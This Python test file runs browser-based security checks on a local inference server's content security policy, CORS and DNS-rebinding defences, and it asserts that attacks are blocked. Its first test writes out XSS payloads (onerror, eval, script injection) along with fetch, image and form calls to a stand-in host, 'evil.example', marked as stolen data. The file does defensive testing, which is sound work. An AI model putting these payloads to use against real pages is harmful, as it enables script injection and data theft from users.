"""What pages of other origins can do to a server on their visitor's machine, in a real browser: nothing, unless it names them."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.integration.fleet import Process
from tests.page.browser import Browser, Page
from tests.page.conftest import KEY, start

pytestmark = [pytest.mark.slow, pytest.mark.timeout(240)]
BODY = json.dumps({"inputs": [{"name": "TEXT", "datatype": "BYTES", "shape": [1, 1], "data": ["hello"]}]})
BINARY = json.dumps({"inputs": json.loads(BODY)["inputs"], "parameters": {"binary_data_output": True}})


class Blank(http.server.BaseHTTPRequestHandler):
    """A page of another web site: nothing but its origin."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>elsewhere</title>")

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[int]:
    """The port of another web site; every name below `.example` leads to it, and to the gateway's port too."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Blank) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        yield site.server_port
        site.shutdown()


def fetched(page: Page, url: str, **options: Any) -> dict[str, Any]:
    """What the page's own fetch gives it: the status and text of an answer, or that it may not see any."""
    found: dict[str, Any] = page.run(
        f"fetch({json.dumps(url)}, {json.dumps(options)}).then(async (answer) => ({{status: answer.status,"
        "text: await answer.text(), headers: Object.fromEntries(answer.headers)}), (error) => ({error: error.name}))"
    )
    return found


def test_markup_that_gets_into_the_page_does_nothing(browser: Browser, elsewhere: int, tmp_path: Path) -> None:
    """What the policy is for: as if a fault of the page had let a stranger's markup in, and a frame around the page."""
    process = start(tmp_path, models=("shout",))
    page, frame = browser.open(process.url), None
    try:
        page.wait_text("#connection", "Live")
        away = f"http://evil.example:{elsewhere}/?stolen"
        form = f"const form = Object.assign(document.createElement('form'), {{action: '{away}'}}); document.body.append(form)"
        for attempt in (
            "document.body.innerHTML += '<img src=x onerror=window.hacked=1>'",
            "eval('window.hacked=1')",
            "setTimeout('window.hacked=1')",
            "document.body.append(Object.assign(document.createElement('script'), {text: 'window.hacked=1'}))",
            f"fetch('{away}').catch(() => 0)",
            f"document.body.append(Object.assign(new Image(), {{src: '{away}'}}))",
            f"{form}; form.submit()",
            f"document.head.prepend(Object.assign(document.createElement('base'), {{href: '{away}'}}))",
        ):
            script = f"(() => {{ try {{ {attempt}; }} catch (error) {{ return String(error); }} }})()"
            page.send("Runtime.evaluate", expression=script, allowUnsafeEvalBlockedByCSP=False)
        page.pump(0.5)
        assert page.run("window.hacked") is None
        assert page.run("document.baseURI").startswith(process.url)
        assert page.run("location.href").startswith(process.url)
        stopped = {each.split(" ")[0] for each in page.run("window.violations")}
        assert {"require-trusted-types-for", "connect-src", "img-src", "form-action", "base-uri"} <= stopped, stopped

        frame = browser.open(f"http://evil.example:{elsewhere}/")
        frame.wait("document.title === 'elsewhere'")
        frame.run(f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{process.url}'}}))")
        for _ in range(100):
            said = [event["params"]["entry"]["text"] for event in browser.events if event["method"] == "Log.entryAdded"]
            if any("frame-ancestors" in text for text in said):
                break
            frame.pump(0.1)
        assert any("frame-ancestors" in text for text in said), said
    finally:
        page.close()
        if frame is not None:
            frame.close()
        process.stop()


def counted(process: Process, **headers: str) -> int:
    (model,) = httpx.get(f"{process.url}/v2/fleet/models", headers=headers).json()["models"]
    successes: int = model["counts"]["success"] + model["counts"]["failed"]
    return successes


def index(process: Process) -> list[tuple[str, str]]:
    return [(each["name"], each["state"]) for each in httpx.post(f"{process.url}/v2/repository/index", json={}).json()]


CONTROLLED = ("--model-control-mode", "explicit", "--load-model", "shout")


def test_a_foreign_site_can_neither_call_nor_load_nor_rebind(browser: Browser, elsewhere: int, tmp_path: Path) -> None:
    process = start(tmp_path, *CONTROLLED, models=("shout",))
    page = browser.open(f"http://evil.example:{elsewhere}/")
    try:
        page.wait("document.title === 'elsewhere'")
        for url in (
            process.url,
            f"http://localhost:{process.http_port}",
            f"http://rebound.example:{process.http_port}",
        ):
            for path, body in (("/v2/models/shout/infer", BODY), ("/v2/repository/models/shout/unload", "{}")):
                # no-cors and text/plain: sent without asking, as a form of the page would be
                sent = fetched(
                    page, url + path, method="POST", body=body, mode="no-cors", headers={"Content-Type": "text/plain"}
                )
                assert sent.get("text", "") == ""
                assert fetched(page, url + path, method="POST", body=body) == {"error": "TypeError"}
            assert fetched(page, f"{url}/v2/fleet/models") == {"error": "TypeError"}
        assert counted(process) == 0
        assert index(process) == [("shout", "READY")]
        rebound = browser.open(f"http://rebound.example:{process.http_port}/")
        assert "call it as localhost" in rebound.wait_text("body", "rebound.example")
        rebound.close()
    finally:
        page.close()
        process.stop()


def test_a_page_of_another_port_of_this_machine_loads_nothing(browser: Browser, elsewhere: int, tmp_path: Path) -> None:
    process = start(tmp_path, *CONTROLLED, models=("shout",))
    page = browser.open(f"http://127.0.0.1:{elsewhere}/")
    try:
        page.wait("document.title === 'elsewhere'")
        plain = {"method": "POST", "mode": "no-cors", "headers": {"Content-Type": "text/plain"}}
        fetched(page, f"{process.url}/v2/repository/models/shout/unload", body="{}", **plain)
        assert index(process) == [("shout", "READY")]
        assert fetched(page, f"{process.url}/v2/models/shout/infer", method="POST", body=BODY) == {"error": "TypeError"}
    finally:
        page.close()
        process.stop()


def test_a_named_origin_calls_with_its_key_and_reads_what_answers_say(
    browser: Browser, elsewhere: int, tmp_path: Path
) -> None:
    origin = f"http://app.example:{elsewhere}"
    process = start(tmp_path, "--api-key", KEY, "--cors-origin", origin, models=("shout",))
    page, other = browser.open(origin), browser.open(f"http://evil.example:{elsewhere}/")
    try:
        for tab in (page, other):
            tab.wait("document.title === 'elsewhere'")
        headers = {"Content-Type": "application/json", "Authorization": f"Bearer {KEY}", "Penstock-Timeout-Ms": "5000"}
        call: dict[str, Any] = {"method": "POST", "headers": headers}
        answer = fetched(page, f"{process.url}/v2/models/shout/infer", body=BINARY, **call)
        assert answer["status"] == 200
        assert "<b>hello</b>" in answer["text"]
        assert int(answer["headers"]["inference-header-content-length"]) > 0
        assert "compute_end=" in answer["headers"]["penstock-timing"]
        assert answer["headers"]["penstock-request-id"]
        wrong = fetched(page, f"{process.url}/v2/models/none/infer", body=BODY, **call)
        assert (wrong["status"], wrong["headers"]["penstock-error"]) == (404, "NOT_FOUND")
        assert "unknown model" in json.loads(wrong["text"])["error"]
        assert fetched(page, f"{process.url}/v2/models/shout", headers=headers)["status"] == 200
        assert fetched(page, f"{process.url}/v2/models/shout/infer", method="POST", body=BODY)["status"] == 401

        before = counted(process, authorization=f"Bearer {KEY}")
        assert fetched(other, f"{process.url}/v2/models/shout/infer", body=BODY, **call) == {"error": "TypeError"}
        assert counted(process, authorization=f"Bearer {KEY}") == before
    finally:
        page.close()
        other.close()
        process.stop()


def test_a_star_lets_every_page_call(browser: Browser, elsewhere: int, tmp_path: Path) -> None:
    process = start(tmp_path, *CONTROLLED, "--cors-origin", "*", models=("shout",))
    page = browser.open(f"http://any.example:{elsewhere}/")
    try:
        page.wait("document.title === 'elsewhere'")
        call: dict[str, Any] = {"method": "POST", "headers": {"Content-Type": "application/json"}}
        assert fetched(page, f"{process.url}/v2/models/shout/infer", body=BODY, **call)["status"] == 200
        refused = fetched(page, f"{process.url}/v2/repository/models/shout/unload", body="{}", **call)
        assert (refused["status"], "--cors-origin" in refused["text"]) == (403, True)
        assert index(process) == [("shout", "READY")]
    finally:
        page.close()
        process.stop()
